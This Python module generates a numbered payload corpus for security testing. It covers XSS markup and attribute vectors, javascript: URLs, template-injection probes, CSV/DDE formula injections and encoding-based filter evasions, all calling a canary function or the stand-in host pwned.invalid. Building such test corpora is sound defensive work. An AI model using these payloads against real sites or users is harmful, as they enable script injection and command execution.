"""Texts that try to be more than text: made from ways to run something and ways out of where they stand.

Whatever runs calls `pwned(number)`, or asks for an address below `/pwned/` or at `pwned.invalid`; what is
evaluated as a template gives `PRODUCT`.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import count
from typing import Final

PRODUCT: Final = str(1337 * 7331)
_CALL: Final = "pwned(0)"
#: Ways to run something, as markup of their own.
_MARKUP: Final = (
    "<script>pwned(0)</script>",
    "<img src=x onerror=pwned(0)>",
    "<IMG/SRC=x/ONERROR=pwned(0)>",
    "<svg onload=pwned(0)>",
    "<svg/onload=pwned&#40;0&#41;>",
    "<svg><script>pwned(0)</script></svg>",
    "<svg><script href=/pwned/0></script></svg>",
    "<svg><animate onbegin=pwned(0) attributeName=x dur=1s></svg>",
    "<svg><set onbegin=pwned(0) attributeName=x></svg>",
    '<svg><a href="javascript:pwned(0)"><text y=20>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned(0)></svg>#x"></svg>',
    "<svg><style><img src=x onerror=pwned(0)></style></svg>",
    "<svg><foreignObject><body onload=pwned(0)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=pwned(0)>'></math>",
    "<details open ontoggle=pwned(0)>",
    "<video><source onerror=pwned(0)></video>",
    "<audio src=x onerror=pwned(0)></audio>",
    "<body onload=pwned(0)>",
    "<input autofocus onfocus=pwned(0)>",
    "<marquee onstart=pwned(0)>x</marquee>",
    "<style onload=pwned(0)></style>",
    "<style>@import '/pwned/0'</style>",
    "<link rel=stylesheet href=/pwned/0>",
    "<script src=/pwned/0></script>",
    "<script src=//pwned.invalid/0></script>",
    '<iframe srcdoc="<script>parent.pwned(0)</script>"></iframe>',
    '<iframe src="javascript:parent.pwned(0)"></iframe>',
    '<object data="javascript:pwned(0)"></object>',
    "<embed src=/pwned/0>",
    "<meta http-equiv=refresh content='0;url=/pwned/0'>",
    "<base href=//pwned.invalid/>",
    '<noscript><p title="</noscript><img src=x onerror=pwned(0)>"></noscript>',
    "<template><script>pwned(0)</script></template><img src=x onerror=pwned(0)>",
    "<div hx-get=/pwned/0 hx-trigger=load>x</div>",
    "<div data-hx-get=/pwned/0 data-hx-trigger=load>x</div>",
    "<div hx-post=/pwned/0 hx-trigger=load>x</div>",
    '<div hx-on::load="pwned(0)" hx-on:htmx:load="pwned(0)" hx-on:load="pwned(0)">x</div>',
    '<div hx-get=/sign-in hx-trigger="load[pwned(0)]">x</div>',
    "<div hx-get=/sign-in hx-trigger=load hx-vals='js:{x: pwned(0)}'>x</div>",
    "<hx-partial hx-target=body><img src=x onerror=pwned(0)></hx-partial>",
)
#: Ways out of where a text stands.
_ENDS: Final = (
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "</option></select>",
    '" x="\'>',
    "]]>",
    "</style></code></time>",
)
#: Attributes more, for where a text stands within a tag.
_ATTRIBUTES: Final = (
    "autofocus onfocus=pwned(0)",
    "onmouseover=pwned(0) style=position:fixed;inset:0",
    "tabindex=0 onfocus=pwned(0) id=main autofocus",
    "style=animation-name:x onanimationstart=pwned(0)",
    "hx-get=/pwned/0 hx-trigger=load",
    "data-hx-get=/pwned/0 data-hx-trigger=load",
    "hx-on::load=pwned(0)",
    "formaction=javascript:pwned(0)",
    "srcdoc=<script>parent.pwned(0)</script>",
    "aria-label=x onpointerenter=pwned(0)",
    "data-label=x onclick=pwned(0)",
)
_ADDRESSES: Final = (
    "javascript:pwned(0)",
    "JaVaScRiPt:pwned(0)//",
    "java\tscript:pwned(0)",
    "\x01javascript:pwned(0)",
    "javascript&colon;pwned(0)",
    "javascript://%0apwned(0)",
    "data:text/html,<script>parent.pwned(0)</script>",
    "vbscript:pwned(0)",
    "//pwned.invalid/0",
    "/\\pwned.invalid/0",
    "https:pwned.invalid/0",
    "/pwned/0",
)
_TEMPLATES: Final = (
    "{{1337*7331}}",
    "{{ 1337 * 7331 }}<b>",
    "{%print(1337*7331)%}",
    "{% raw %}{{1337*7331}}",
    "${1337*7331}",
    "#{1337*7331}",
    "<%= 1337*7331 %>",
    "{{config.items()}}{{1337*7331}}",
    "{{''.__class__.__mro__}}{{1337*7331}}",
    "%(1337*7331)s %s {0.__class__}",
)
#: What begins a formula in a spreadsheet (OWASP, CSV Injection).
_FORMULAS: Final = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://pwned.invalid/0","x")',
    '+HYPERLINK("http://pwned.invalid/0")',
    '-IMPORTXML("http://pwned.invalid/0","//a")',
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1',
    '",=1+1',
    ";=1+1",
    "\uff1d1+1",
    " =1+1",
)
_IMAGE: Final = "<img src=x onerror=pwned(0)>"
_LETTERS: Final = (
    "\u202e" + _IMAGE,
    "\u2066" + _IMAGE + "\u2069",
    "\ufeff" + _IMAGE,
    "\u200b<\u200bimg src=x onerror=pwned(0)>",
    "\u2028<script>pwned(0)</script>\u2029",
    "\uff1cscript\uff1epwned(0)\uff1c/script\uff1e",
    "<\u017fcript>pwned(0)</\u017fcript>",
    "<\u0130mg src=x onerror=pwned(0)>",
    "<\x00script>pwned(0)</script>",
    "<scr\x00ipt>pwned(0)</scr\x00ipt>",
    "\x00" + _IMAGE,
    "<img\x0bsrc=x\x0conerror=pwned(0)>",
    "\x1b]8;;javascript:pwned(0)\x07x",
    "+ADw-script+AD4-pwned(0)+ADw-/script+AD4-",
    "\\u003cimg src=x onerror=pwned(0)\\u003e",
    "\\x3cimg src=x onerror=pwned(0)\\x3e",
    "%3Cimg%20src=x%20onerror=pwned(0)%3E",
    "%253Cimg%2520src=x%2520onerror=pwned(0)%253E",
    "&lt;img src=x onerror=pwned(0)&gt;",
    "&#60;img src=x onerror=pwned(0)&#62;",
    "&amp;lt;img src=x onerror=pwned(0)&amp;gt;",
    "x\r\nSet-Cookie: pwned=0\r\n\r\n" + _IMAGE,
    "x\r\nContent-Type: text/html\r\n\r\n" + _IMAGE,
    "a\u0300" * 200 + _IMAGE,
    "\U0001f469\u200d\U0001f4bb" * 40 + _IMAGE,
    "A" * 2000 + _IMAGE,
    "A " * 1000 + _IMAGE,
    _IMAGE * 60,
    "<" * 1500 + "script>pwned(0)</script>",
    '"' * 500 + ">" + _IMAGE,
)


def _made() -> Iterator[str]:
    yield from _MARKUP
    for number, markup in enumerate(_MARKUP):
        for step in (0, 1, 2):
            yield _ENDS[(number + 3 * step) % len(_ENDS)] + markup
    for attribute in _ATTRIBUTES:
        yield f'" {attribute} x="'
        yield f"' {attribute} x='"
        yield f" {attribute} "
    yield from (*_ADDRESSES, *_TEMPLATES, *_FORMULAS, *_LETTERS)


#: Each with its number, which is what it tells if it runs.
PAYLOADS: Final = [
    text.replace(_CALL, f"pwned({number})").replace("/pwned/0", f"/pwned/{number}")
    for number, text in zip(count(1), _made(), strict=False)
]
